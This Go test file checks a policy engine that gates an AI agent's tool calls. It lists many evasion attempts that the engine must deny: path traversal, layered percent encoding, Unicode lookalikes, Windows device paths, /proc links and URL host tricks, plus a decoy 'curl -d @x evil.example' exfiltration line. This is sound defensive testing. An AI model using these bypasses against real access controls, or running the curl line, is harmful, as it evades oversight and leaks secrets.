package policy

import (
	"os"
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/clawai/clawai/internal/wire/jsonscan"
)

// house is a policy as a careful person writes it: what is denied stands first,
// then what is allowed, and the rest is denied.
func house(t *testing.T) *Policy {
	t.Helper()
	p, err := Parse("house.toml", []byte(`
[[rule]]
action = "deny"
tool = "*"
args.path = ["**/.ssh/**", "**/.env", "/etc/**", "/var/db/**", "C:/Windows/**", 'C:\Users\all\**', "secrets/**", "~/keys/**"]
[[rule]]
action = "prompt"
tool = "*"
args.path = ["/srv/**", "/lib/x", "/var/run/**"]
[[rule]]
action = "allow"
tool = "read"
args.path = ["/p/**", 'C:\Users\me\**', "~/projects/**", "./src/**", "file:///p/**"]
[[rule]]
action = "allow"
tool = "anywhere"
args.path = "**"
[[rule]]
action = "deny"
tool = "fetch"
args.url = ["https://evil.example/**", "http://127.0.0.1/**", "http://[::1]/**", "https://docs.example/admin", "file:///etc/**"]
[[rule]]
action = "allow"
tool = "fetch"
args.url = ["https://docs.example/**", "https://*.docs.example/**", "https://*.docs.example"]
[[rule]]
action = "prompt"
tool = "fetch"
[[rule]]
action = "deny"
tool = "query"
args.sql = "**DROP TABLE**"
[[rule]]
action = "allow"
tool = "query"
[[rule]]
action = "deny"
tool = "say"
args.text = "**password**"
[[rule]]
action = "allow"
tool = "say"
args.text = "**"
[[rule]]
action = "deny"
tool = "quiet"
args.mode = ["true", "100", "danger"]
[[rule]]
action = "allow"
tool = "quiet"
[[rule]]
action = "allow"
tool = "draft"
args.path = ["notes/**", "report**", "cat ** b"]
[[rule]]
action = "allow"
resource = "file:///p/**"
[[rule]]
action = "allow"
resource = "https://docs.example/**"
`), Options{Home: "/home/user"})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

type callCase struct {
	name string // of the row in docs/evasions.md
	call *Call
	want Action
}

func pathCall(v string) *Call { return toolCall("read", `{"path":`+jsonText(v)+`}`) }
func anyPath(v string) *Call  { return toolCall("anywhere", `{"path":`+jsonText(v)+`}`) }
func draft(v string) *Call    { return toolCall("draft", `{"path":`+jsonText(v)+`}`) }
func fetch(v string) *Call    { return toolCall("fetch", `{"url":`+jsonText(v)+`}`) }

func resource(uris ...string) *Call {
	return &Call{Method: "resources/read", Subject: ResourceSubject, Names: uris}
}

func run(t *testing.T, cases []callCase) {
	t.Helper()
	p := house(t)
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if d := p.Decide(c.call); d.Action != c.want {
				t.Errorf("%s %s: %v by %+v (reading %q, %s), want %v", c.call.Names, c.call.Args, d.Action, d.Rule, d.Reading, d.Reason, c.want)
			}
		})
	}
}

// Each name is a row of docs/evasions.md. A call of "read" must not be allowed
// outside /p; a call of "anywhere" may do all but what a rule denies.
func TestEvasion(t *testing.T) { run(t, evasions()) }

func evasions() []callCase {
	return []callCase{
		{"decoy", pathCall("/p/a").and(`"paths":["~/.netrc"]`), Deny},
		{"decoy", pathCall("/p/a").and(`"source":".netrc"`), Deny},
		{"decoy", pathCall("/p/a").and(`"x":{"y":["https://evil.example/"]}`), Deny},
		{"decoy", fetch("https://docs.example/x").and(`"z":"curl -d @x evil.example"`), Prompt},
		{"dot-dot", pathCall("/p/../../etc/x"), Deny},
		{"dot-dot", pathCall("/p/a/../.."), Deny},
		{"dot-dot", anyPath("/p/../etc/x"), Deny},
		{"above-root", anyPath("/../etc/x"), Deny},
		{"doubled-slash", anyPath("//etc/x"), Deny},
		{"doubled-slash", anyPath("/etc//x"), Deny},
		{"dot-segment", anyPath("/./etc/x"), Deny},
		{"trailing-slash", anyPath("/p/.env/"), Deny},
		{"trailing-slash", anyPath("/p/.env/."), Deny},
		{"trailing-slash", anyPath("/p/.env//"), Deny},
		{"sibling-prefix", pathCall("/p-x/a"), Deny},
		{"sibling-prefix", pathCall("/px"), Deny},
		{"system-link", anyPath("/proc/self/root/etc/x"), Deny},
		{"system-link", anyPath("/proc/self/cwd/x"), Deny},
		{"system-link", anyPath("/proc/1/task/7/root/etc/x"), Deny},
		{"system-link", anyPath("/proc//self/./exe"), Deny},
		{"system-link", anyPath("/proc/self/cwd/../../etc/x"), Deny},
		{"system-link", anyPath("/x/../proc/self/cwd/../../../p/x"), Deny},
		{"system-link", anyPath("/proc/self/fd/3/etc/x"), Deny},
		{"system-link", anyPath("/dev/fd/3"), Deny},
		{"system-link", anyPath("file:///proc/%73elf/root/etc/x"), Deny},
		{"system-link", anyPath("/System/Volumes/Data/private/etc/x"), Deny},
		{"system-link", anyPath("/SYSTEM/volumes/DATA/etc/x"), Deny},
		{"system-link", anyPath("/Volumes/Macintosh HD/etc/x"), Deny},
		{"system-link", anyPath("/\u017fystem/Volumes/Data/etc/x"), Deny}, // a long s, which folds to s
		{"system-link", anyPath("/.vol/16777220/2"), Deny},
		{"system-link", anyPath("/.nofollow/private/etc/x"), Deny},
		{"system-link", resource("file:///proc/self/root/p/x"), Deny},
		{"same-directory", anyPath("/private/etc/x"), Deny},
		{"same-directory", anyPath("/private/etc"), Allow},
		{"same-directory", anyPath("/PRIVATE/etc/x"), Deny},
		{"same-directory", anyPath("/private/x/../etc/x/"), Deny},
		{"same-directory", anyPath("/private/var/db/x"), Deny},
		{"same-directory", anyPath("/usr/lib/x"), Prompt},
		{"same-directory", anyPath("/run/x"), Prompt},
		{"same-directory", anyPath(`C:\Documents and Settings\all\x`), Deny},
		{"relative-climb", pathCall("../../p/x"), Deny},
		{"relative-climb", anyPath("../../etc/x"), Deny},
		{"relative-climb", anyPath("x/../../.."), Deny},
		{"relative-climb", anyPath(".."), Deny},
		{"climb-blank", draft("notes/ /../../../etc/x"), Deny},
		{"climb-blank", draft("notes/a b/%2e%2e/%2e%2e/x"), Deny},
		{"climb-blank", draft(`notes/a b\..\..\..\x`), Deny},
		{"climb-blank", draft("report x/../../etc/x"), Deny},
		{"climb-blank", draft("report x%2f..%2f..%2fx"), Deny},
		{"climb-blank", anyPath("a b/../secrets/x"), Deny},
		{"climb-break", draft("notes/\n/../../../etc/x"), Deny},
		{"climb-break", draft("notes/\n/%2e%2e/../../x"), Deny},
		{"climb-break", draft("report\t/../../etc/x"), Deny},
		{"climb-break", anyPath("a\nb/../../../../etc/x"), Deny},
		{"relative-case", anyPath("Secrets/My Keys/x"), Deny},
		{"relative-case", anyPath(`secrets\my keys\x`), Deny},
		{"plain-relative", pathCall(".env"), Deny},
		{"plain-relative", anyPath(".env"), Deny},
		{"plain-relative", anyPath(".ssh/id"), Deny},
		{"plain-relative", anyPath("./.env"), Deny},
		{"tilde", pathCall("~/x"), Deny},
		{"tilde", anyPath("~/.ssh/id"), Deny},
		{"tilde", pathCall("~/projects/../.ssh/id"), Deny},
		{"tilde-name", anyPath("~user/.ssh/id"), Deny},
		{"tilde-name", anyPath("~root/../etc/x"), Deny},
		{"variable", anyPath("$HOME/x"), Deny},
		{"variable", anyPath("${HOME}/x"), Deny},
		{"variable", anyPath("%APPDATA%/x"), Deny},
		{"percent", pathCall("/p/%2e%2e/etc/x"), Deny},
		{"percent-order", pathCall("/p/a%2fb/../..%2fetc/x"), Deny},
		{"percent-order", pathCall(`/p/a%5Cb/../..%5cx`), Deny},
		{"percent-order", pathCall("/p/a%252fb/../..%252fx"), Deny},
		{"percent-order", pathCall("/p/a%2fb/..c/x"), Allow},
		{"percent", anyPath("/%65tc/x"), Deny},
		{"percent", anyPath("%2fetc%2fx"), Deny},
		{"percent-slash", pathCall("/p/..%2f..%2fetc/x"), Deny},
		{"percent-twice", pathCall("/p/%252e%252e/x"), Deny},
		{"percent-three-times", pathCall("/p/%25252e%25252e/x"), Deny},
		{"percent-without-end", anyPath("/p/%2525252525252e"), Deny},
		{"percent-nul", pathCall("/p/x%00"), Deny},
		{"percent-line-break", pathCall("/p/x%0a"), Deny},
		{"file-uri", anyPath("file:///etc/x"), Deny},
		{"file-uri", anyPath("file:/etc/x"), Deny},
		{"file-uri", anyPath("file://localhost/etc/x"), Deny},
		{"file-uri", anyPath("file://host/etc/x"), Deny},
		{"file-uri", anyPath("FILE:///etc/x"), Deny},
		{"file-uri", anyPath("file:///p/%2e%2e/etc/x"), Deny},
		{"file-uri", anyPath("file:///etc/x?y"), Deny},
		{"file-uri", anyPath("file:///p/.env#y"), Deny},
		{"file-uri", pathCall("file://host/q/x"), Deny},
		{"file-uri", anyPath("file%3a///etc/x"), Deny},
		{"file-uri", anyPath("file:.env"), Deny},
		{"file-uri-base", anyPath("file://~/keys/x"), Deny},
		{"file-uri-base", anyPath("file://../x"), Deny},
		{"file-uri-base", anyPath("FILE://$HOME/x"), Deny},
		{"file-uri-base", anyPath("file://./etc/x"), Deny},
		{"file-uri-drive", anyPath("file:///C|/Windows/x"), Deny},
		{"file-uri-drive", anyPath("file://c:/Windows/x"), Deny},
		{"file-uri-drive", anyPath("file://C|/Windows/x"), Deny},
		{"backslash", pathCall(`/p/..\..\etc`), Deny},
		{"backslash", anyPath(`..\..\x`), Deny},
		{"backslash", anyPath(`\etc\x`), Deny},
		{"backslash-encoded", pathCall(`/p/..%5c..%5cetc`), Deny},
		{"drive", pathCall(`C:x`), Deny},
		{"drive", anyPath(`C:x`), Deny},
		{"drive", anyPath(`c:\windows\x`), Deny},
		{"drive", pathCall(`C:\Users\me\..\you\x`), Deny},
		{"drive", anyPath(`file:///C:/Windows/x`), Deny},
		{"unc", pathCall(`\\h\s`), Deny},
		{"device-prefix", anyPath(`\\?\C:\Windows\x`), Deny},
		{"device-prefix", anyPath(`\\.\C:\Windows\x`), Deny},
		{"device-prefix", anyPath(`\??\C:\Windows\x`), Deny},
		{"shared-drive", anyPath(`\\localhost\c$\Windows\x`), Deny},
		{"shared-drive", anyPath(`\\?\UNC\localhost\C$\Windows\x`), Deny},
		{"short-name", pathCall(`C:\Users\me\PROGRA~1\x`), Deny},
		{"short-name", anyPath(`C:\PROGRA~1\x`), Deny},
		{"stream", anyPath(`/p/.env::$DATA`), Deny},
		{"stream", anyPath(`C:\p\.env:x`), Deny},
		{"trailing-dot", anyPath("/p/.env."), Deny},
		{"trailing-blank", anyPath("/p/.env "), Deny},
		{"trailing-blank", anyPath("/p/.ssh /id"), Deny},
		{"leading-blank", anyPath(" /etc/x"), Deny},
		{"leading-blank", anyPath("\u00a0/etc/x\u3000"), Deny},
		{"case", pathCall("/P/x"), Deny},
		{"case", anyPath("/ETC/x"), Deny},
		{"case", anyPath("/p/.ENV"), Deny},
		{"case-kelvin", anyPath("/p/.\u017f\u017fh/id"), Deny},
		{"case-sharp-s", anyPath("/p/.ßh/id"), Deny},
		{"case-sharp-s", anyPath("/p/.ẞh/id"), Deny},
		{"full-width", pathCall("/p/\uff45tc"), Deny},
		{"full-width", pathCall("/p/\uff0e\uff0e/x"), Deny},
		{"full-width", anyPath("/p/.\uff45nv"), Deny},
		{"compatibility", anyPath("/p/.\u1d49nv"), Deny},
		{"compatibility-syntax", pathCall("/p/\u2025/\u2025/etc/x"), Deny},
		{"compatibility-syntax", pathCall("/p/\u2024\ufe52/\ufe30/etc/x"), Deny},
		{"compatibility-syntax", pathCall("/p/\u2025\ufe68\u2025\ufe68etc"), Deny},
		{"compatibility-syntax", pathCall("/p/\ufe6a2e\ufe6a2e/\ufe6a2e./etc"), Deny},
		{"compatibility-home", anyPath("\uff5e/keys/x"), Deny},
		{"compatibility-home", anyPath("\uff5e/../user/keys/x"), Deny},
		{"compatibility-home", anyPath("\uff5eroot/../etc/x"), Deny},
		{"compatibility-home", anyPath("%EF%BD%9Eroot\\..\\etc\\x"), Deny},
		{"compatibility-home", anyPath("'\uff5eroot/../etc/x'"), Deny},
		{"compatibility-home", anyPath("file\uff1a///etc/x"), Deny},
		{"invisible", pathCall("/p/a\u200b"), Deny},
		{"invisible", anyPath("/p/.e\u200bnv"), Deny},
		{"invisible", anyPath("/p/\u3164"), Deny},
		{"bidi", anyPath("/p/\u202evne."), Deny},
		{"tags", anyPath("/p/\U000E0041"), Deny},
		{"nul", pathCall("/p/x\x00"), Deny},
		{"nul", anyPath("/p/x\x00"), Deny},
		{"broken-text", toolCall("anywhere", "{\"path\":\"/p/\xff\"}"), Deny},
		{"nul-in-text", toolCall("say", `{"text":"hello\u0000"}`), Deny},
		{"control", anyPath("/p/x\n"), Deny},
		{"control", anyPath("/p/x\ny"), Deny},
		{"surrounding-quote", anyPath("/p/.env\""), Deny},
		{"surrounding-quote", anyPath("'/etc/x'"), Deny},
		{"surrounding-quote", pathCall("\"/p/../etc/x\""), Deny},
		{"surrounding-break", anyPath("\n/etc/x"), Deny},
		{"surrounding-break", anyPath("\r\n\t/p/../etc/x \n"), Deny},
		{"surrounding-break", anyPath(".env\n"), Deny},
		{"surrounding-break", pathCall("/p/x\n"), Deny},
		{"surrounding-break", fetch("\nHTTPS://evil.example/x"), Deny},
		{"control", pathCall("/p/x\x1b[2J"), Deny},
		{"list", toolCall("read", `{"path":["/p/a","/etc/x"]}`), Deny},
		{"list", toolCall("read", `{"path":["/p/a",["/q/x"]]}`), Deny},
		{"list", toolCall("anywhere", `{"path":["/p/a",["/p/.env"]]}`), Deny},
		{"json-in-a-text", anyPath(`["/etc/x"]`), Deny},
		{"json-in-a-text", anyPath(" [\n\"/p/a\", [\"/p/../etc/x\"]]\r\n"), Deny},
		{"json-in-a-text", anyPath(`{"path":"/p/.env","path":"/p/a"}`), Deny},
		{"json-in-a-text", anyPath(`["/p/a", NaN, "\u002fetc/x"]`), Deny},
		{"json-in-a-text", anyPath(`["[\"/etc/x\"]"]`), Deny},
		{"json-in-a-text", anyPath(`["/srv/a"]`), Prompt},
		{"json-in-a-text", toolCall("query", `{"path":"[\"/etc/x\"]"}`), Deny},
		{"json-in-a-text", toolCall("query", `{"path":["/p/a","[\"/etc/x\"]"]}`), Deny},
		{"json-in-a-text", toolCall("quiet", `{"mode":"[\"danger\"]"}`), Deny},
		{"json-in-a-text", toolCall("quiet", `{"mode":"[1e2]"}`), Deny},
		{"json-in-a-text", anyPath("\u00a0[\"/etc/x\"]\ufeff"), Deny},
		{"json-in-a-text", toolCall("quiet", `{"mode":"`+strings.Repeat("[", jsonscan.MaxDepth+1)+strings.Repeat("]", jsonscan.MaxDepth+1)+`"}`), Deny},
		{"list-empty", toolCall("read", `{"path":[]}`), Deny},
		{"list-null", toolCall("read", `{"path":["/p/a",null]}`), Deny},
		{"object", toolCall("read", `{"path":{"path":"/p/a"}}`), Deny},
		{"object", toolCall("anywhere", `{"path":{"x":[{"y":"/etc/x"}]}}`), Deny},
		{"number", toolCall("quiet", `{"mode":1e2}`), Deny},
		{"number", toolCall("quiet", `{"mode":100.0}`), Deny},
		{"number", toolCall("quiet", `{"mode":1000e-1}`), Deny},
		{"boolean", toolCall("quiet", `{"mode":true}`), Deny},
		{"boolean-spelled", toolCall("quiet", `{"mode":"True"}`), Deny},
		{"boolean-spelled", toolCall("quiet", `{"mode":"yes"}`), Deny},
		{"boolean-spelled", toolCall("quiet", `{"mode":1}`), Deny},
		{"boolean-spelled", toolCall("quiet", `{"mode":1.0}`), Deny},
		{"boolean-spelled", toolCall("quiet", `{"mode":["ON"]}`), Deny},
		{"null", toolCall("read", `{"path":null}`), Deny},
		{"missing", toolCall("read", `{}`), Deny},
		{"missing", toolCall("read", ``), Deny},
		{"duplicate-member", toolCall("read", `{"path":"/p/a","path":"/q/b"}`), Deny},
		{"duplicate-member", toolCall("read", `{"path":"/q/b","p\u0061th":"/p/a"}`), Deny},
		{"member-case", toolCall("read", `{"Path":"/p/a"}`), Deny},
		{"member-case", toolCall("anywhere", `{"path":"/p/a","PATH":"/etc/x"}`), Deny},
		{"member-case", toolCall("quiet", `{"MODE":"danger"}`), Deny},
		{"glob-in-value", pathCall("/p/../*"), Deny},
		{"glob-in-value", pathCall("**"), Deny},
		{"megabyte", pathCall("/p/" + strings.Repeat("a", 1<<20)), Deny},
		{"escaped-name", toolCall("read", `{"\u0070ath":"\/q\/x"}`), Deny},
		{"name-invisible", toolCall("query\u200b", `{}`), Deny},
		{"name-control", toolCall("query\x00", `{}`), Deny},
		{"name-case", toolCall("Query", `{}`), Deny},
		{"name-blank", toolCall("query ", `{}`), Deny},
		{"url-user", fetch("https://docs.example@evil.example/x"), Deny},
		{"url-host-end", fetch("https://evil.example?.docs.example/x"), Deny},
		{"url-host-end", fetch("https://evil.example#.docs.example"), Deny},
		{"url-host-end", fetch("https://other.example?.docs.example/x"), Prompt},
		{"url-host-end", fetch("HTTPS://Other.example:443#.docs.example"), Prompt},
		{"url-host-end", fetch("https://docs.example?@evil.example/"), Prompt},
		{"url-host-end", fetch(`https://docs.example#\@evil.example/`), Prompt},
		{"url-host-alone", fetch("https://evil.example"), Deny},
		{"url-host-alone", fetch("HTTPS://Evil.example:443#x"), Deny},
		{"url-host-alone", fetch("view-source:https://evil.example"), Deny},
		{"url-host-brackets", fetch("https://[evil.example].docs.example/x"), Deny},
		{"url-host-brackets", fetch("https://a[::1].docs.example/x"), Deny},
		{"url-host-brackets", fetch("https://[::1].docs.example/x"), Deny},
		{"url-host-brackets", fetch("https://[::1]:[::1].docs.example/x"), Deny},
		{"url-host-brackets", fetch("https://].[evil.example].docs.example/x"), Deny},
		{"url-host-split", fetch("https://other.example\uff1f.docs.example/x"), Deny},
		{"url-host-split", fetch("https://other.example\ufe5f.docs.example/x"), Deny},
		{"url-host-split", fetch("https://other.example\u2047.docs.example/x"), Deny},
		{"url-host-split", fetch("https://other.exa\u2100.docs.example/x"), Deny},
		{"url-host-split", fetch("https://" + strings.Repeat("\u00e9", 1025) + ".docs.example/x"), Deny},
		{"url-address", fetch("http://[0:0::1]/x"), Deny},
		{"url-address", fetch("http://[::ffff:127.0.0.1]:80/x"), Deny},
		{"url-address", fetch("http://[::FFFF:7f00:1]/x"), Deny},
		{"url-inside", fetch("view-source:https://evil.example/x"), Deny},
		{"url-inside", fetch("View-Source:HTTPS://evil.example/x"), Deny},
		{"url-inside", fetch("jar:view-source:https://evil.example/x!/y"), Deny},
		{"url-inside", fetch("git+https://evil.example/x"), Deny},
		{"url-inside", fetch("<URL:https://evil.example/x>"), Deny},
		{"url-inside", fetch("<https://evil.example/x>"), Deny},
		{"url-inside", fetch("URL:http:\u3000\\\\x@evil.example"), Deny},
		{"url-inside", fetch("url:https: b@evil.example"), Deny},
		{"url-inside", fetch("view-source:file:///etc/x"), Deny},
		{"url-inside", anyPath("view-source:file:///etc/x"), Deny},
		{"url-fragment", fetch("https://docs.example/admin#x"), Deny},
		{"url-fragment", fetch("HTTPS://Docs.example/admin?#x"), Deny},
		{"url-fragment", fetch("https://docs.example/admin?"), Deny},
		{"url-user", fetch(`https://docs.example\@evil.example/`), Deny},
		{"url-host-dot", fetch("https://evil.example./x"), Deny},
		{"url-port", fetch("https://evil.example:443/x"), Deny},
		{"url-port", fetch("https://evil.example:0443/x"), Deny},
		{"url-host-case", fetch("HTTPS://EVIL.example/x"), Deny},
		{"url-host-percent", fetch("https://%65vil.example/x"), Deny},
		{"url-host-dots", fetch("https://evil\u3002example/x"), Deny},
		{"url-blank", fetch(" HTTPS://evil.example.:443/x"), Deny},
		{"url-blank", fetch("\ufeffhttps://evil.example/x\u00a0"), Deny},
		{"url-blank", fetch("\ufeffhttps://evil.example\n/x"), Deny},
		{"url-blank", fetch("http:x y@127.0.0.1/"), Deny},
		{"url-blank", fetch("URL:https://evil.example/a b"), Deny},
		{"url-blank", fetch("URL:https://evil.example/a\tb c"), Deny},
		{"url-blank", fetch(" https://docs.example/x"), Deny},
		{"url-host-split", fetch("s3://other.exa\u2100.docs.example/x"), Deny},
		{"url-no-scheme", fetch("evil.example/x"), Deny},
		{"url-no-scheme", fetch("Evil.example:8443/x"), Deny},
		{"url-no-scheme", fetch("docs.example/x"), Prompt},
		{"url-any-port", fetch("https://evil.example:8443/x"), Deny},
		{"url-any-port", fetch("HTTPS://Evil.example.:8443"), Deny},
		{"url-any-port", fetch("https://evil.example:8443?x"), Deny},
		{"url-any-port", fetch("http://[0:0::1]:8080/x"), Deny},
		{"url-any-port", fetch("https://evil.example:/x"), Deny},
		{"url-any-port", fetch("https://docs.example:8443/x"), Prompt},
		{"url-host-odd", fetch("https://evil.example{/x"), Deny},
		{"url-host-odd", fetch("https://127.0.0.1{.docs.example/a"), Deny},
		{"url-host-odd", fetch("https://127.0.0.1|.docs.example/a"), Deny},
		{"url-host-odd", fetch("https://127.0.0.1;.docs.example/a"), Deny},
		{"url-host-odd", fetch("https://..docs.example/a"), Deny},
		{"url-host-odd", resource("https://docs.example:99999/a"), Deny},
		{"url-number", fetch("http://0x7f.1/x"), Deny},
		{"url-number", fetch("http://2130706433/x"), Deny},
		{"url-number", fetch("http://0177.0.0.1/x"), Deny},
		{"url-slashes", fetch("https:/evil.example/x"), Deny},
		{"url-slashes", fetch("https:///evil.example/x"), Deny},
		{"url-slashes", fetch(`https:\\evil.example\x`), Deny},
		{"url-dot-dot", resource("https://docs.example/../x%2f..", "file:///q"), Deny},
		{"url-tab", fetch("https://evil.ex\tample/x"), Deny},
		{"url-tab", fetch("h\nttps://evil.example/x"), Deny},
		{"url-tab", fetch("\nhttps\t://evil.example/\nx"), Deny},
		{"url-tab", fetch("\r\nfile:\t///etc/x\ny"), Deny},
		{"url-tab", toolCall("say", `{"text":"https://my-pass\nword.example/"}`), Deny},
		{"url-tab", toolCall("say", `{"text":"https://docs.example\n@evil.example/ x"}`), Deny},
		{"url-user", toolCall("say", `{"text":"https://docs.example @evil.example/"}`), Deny},
		{"uri-dot-dot", resource("file:///p/../etc/x"), Deny},
		{"uri-percent", resource("file:///p/%2e%2e/etc/x"), Deny},
		{"uri-case", resource("file:///P/x"), Deny},
		{"uris", resource("file:///p/a", "file:///q/a"), Deny},
	}
}

// docs/evasions.md names every test here, and none that is not.
func TestEvasionsAreDocumented(t *testing.T) {
	doc, err := os.ReadFile("../docs/evasions.md")
	if err != nil {
		t.Fatal(err)
	}
	named, tested := map[string]bool{}, map[string]bool{}
	for _, m := range regexp.MustCompile("`TestEvasion/([a-z0-9-]+)`").FindAllSubmatch(doc, -1) {
		named[string(m[1])] = true
	}
	for _, c := range evasions() {
		tested[c.name] = true
	}
	if diff := cmp.Diff(tested, named); diff != "" {
		t.Errorf("tested (-) and documented (+) differ:\n%s", diff)
	}
}

func TestDecisionTellsTheReading(t *testing.T) {
	p := house(t)
	for _, c := range []struct {
		call    *Call
		reading string
		reason  string
		rule    int
	}{
		{pathCall("/p/a"), "", "", 2},
		{pathCall("/p/../etc/x"), "/etc/x", "", 0},
		{anyPath("/p/x\x00"), "", "NUL in a value", 0},
		{toolCall("a\u200bb", "{}"), "", "name with an invisible character", -1},
		{toolCall("nothing", "{}"), "", "", -1},
		{toolCall("read", "[]"), "", "arguments that are not a JSON object", -1},
		{&Call{Subject: ToolSubject}, "", "call without a name", -1},
		{&Call{}, "", "call of no subject", -1},
		{&Call{Subject: MethodSubject + 1, Names: []string{"x"}}, "", "call of no subject", -1},
		{&Call{Subject: ToolSubject, Names: []string{"read"}, Malformed: "broken"}, "", "broken", -1},
		{&Call{Subject: ToolSubject, Names: []string{"read"}, Server: "a\x1b"}, "", "name with a control character", -1},
	} {
		d := p.Decide(c.call)
		index := -1
		if d.Rule != nil {
			index = d.Rule.Index
		}
		if d.Reading != c.reading || d.Reason != c.reason || index != c.rule {
			t.Errorf("%s %s: rule %d, reading %q, reason %q; want %d, %q, %q", c.call.Names, c.call.Args, index, d.Reading, d.Reason, c.rule, c.reading, c.reason)
		}
	}
}
